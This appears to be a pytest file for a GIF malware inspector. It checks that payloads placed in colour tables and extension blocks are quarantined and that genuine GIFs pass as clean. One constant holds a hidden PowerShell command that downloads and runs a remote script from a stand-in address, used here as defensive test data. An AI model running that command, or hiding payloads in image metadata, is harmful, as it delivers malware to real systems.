"""GIF blocks a decoder skips are judged (agent/inspect/gif.py).

GIF89a: a colour table is 3 x 2**(n+1) bytes of RGB entries after the logical screen or an
image descriptor (§18, §20); a Graphic Control Extension is one 4-byte sub-block (§23); an
extension label the specification does not define is skipped sub-block by sub-block by
every decoder. A raw program is found anywhere by the whole-file search for program
headers; an encoded program or a script line is seen only in a region a judge is given.
"""

from __future__ import annotations

import base64
import io

import pytest
from PIL import Image

from agent.inspect.engine import inspect_bytes
from tests import classify_samples as cs
from tests.format_samples import gradient

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"
PAYLOADS = {"base64 program": base64.b64encode(cs.real_pe()), "script": SCRIPT}
SCREEN_END = 13  # bytes: "GIF89a" and the 7-byte logical screen descriptor
GLOBAL_TABLE_FLAG = 0x80


def _gif(colours: int = 256) -> bytes:
    out = io.BytesIO()
    gradient((64, 48)).convert("P", palette=Image.Palette.ADAPTIVE, colors=colours).save(out, "GIF")
    return out.getvalue()


GIF = _gif()


def _table_bytes(gif: bytes) -> int:
    flags = gif[10]
    return 3 << ((flags & 7) + 1) if flags & GLOBAL_TABLE_FLAG else 0


def _sub_blocks(data: bytes) -> bytes:
    pieces = [data[i : i + 255] for i in range(0, len(data), 255)]
    return b"".join(bytes([len(piece)]) + piece for piece in pieces) + b"\x00"


def _after_global_table(gif: bytes, block: bytes) -> bytes:
    at = SCREEN_END + _table_bytes(gif)
    return gif[:at] + block + gif[at:]


def _verdict(data: bytes) -> str:
    return inspect_bytes("photo.gif", data).verdict.value


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_as_the_global_colour_table_is_quarantined(kind: str) -> None:
    size = _table_bytes(GIF)
    assert size == 768
    table = PAYLOADS[kind][:size].ljust(size, b" ")
    gif = GIF[:SCREEN_END] + table + GIF[SCREEN_END + size :]
    report = inspect_bytes("photo.gif", gif)
    assert report.verdict.value == "quarantine"
    assert "gif.payload_in_metadata" in {f.code for f in report.findings}


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_as_a_local_colour_table_is_quarantined(kind: str) -> None:
    at = GIF.index(b"\x2c", SCREEN_END + _table_bytes(GIF))  # the image descriptor
    descriptor = bytearray(GIF[at : at + 10])
    descriptor[9] |= 0x80 | 7  # a local table of 256 entries follows the descriptor
    table = PAYLOADS[kind][:768].ljust(768, b" ")
    assert _verdict(GIF[:at] + bytes(descriptor) + table + GIF[at + 10 :]) == "quarantine"


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_in_a_graphic_control_extension_is_quarantined(kind: str) -> None:
    longer = b"\x21\xf9" + _sub_blocks(b"\x00\x0a\x00\x00" + PAYLOADS[kind])
    extra = b"\x21\xf9\x04\x00\x0a\x00\x00" + _sub_blocks(PAYLOADS[kind])
    for block in (longer, extra):
        report = inspect_bytes("photo.gif", _after_global_table(GIF, block))
        assert report.verdict.value == "quarantine"
        assert "gif.unexplained_data" in {f.code for f in report.findings}


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_in_an_undefined_extension_is_quarantined(kind: str) -> None:
    block = b"\x21\x02" + _sub_blocks(PAYLOADS[kind])
    report = inspect_bytes("photo.gif", _after_global_table(GIF, block))
    assert report.verdict.value == "quarantine"
    assert "gif.payload_in_metadata" in {f.code for f in report.findings}


@pytest.mark.parametrize("colours", [2, 16, 64, 256])
def test_real_colour_tables_and_graphic_control_stay_clean(colours: int) -> None:
    frames = [gradient((64, 48)).rotate(20 * i).convert("P", colors=colours) for i in range(3)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=80, loop=0)
    assert b"\x21\xf9\x04" in out.getvalue()
    assert _verdict(out.getvalue()) == "clean"


def test_a_grey_ramp_table_and_harmless_unknown_extension_stay_clean() -> None:
    ramp = bytes(value for value in range(256) for _ in range(3))
    gif = GIF[:SCREEN_END] + ramp + GIF[SCREEN_END + 768 :]
    gif = _after_global_table(gif, b"\x21\x02" + _sub_blocks(bytes(range(256))))
    assert _verdict(gif) == "clean"
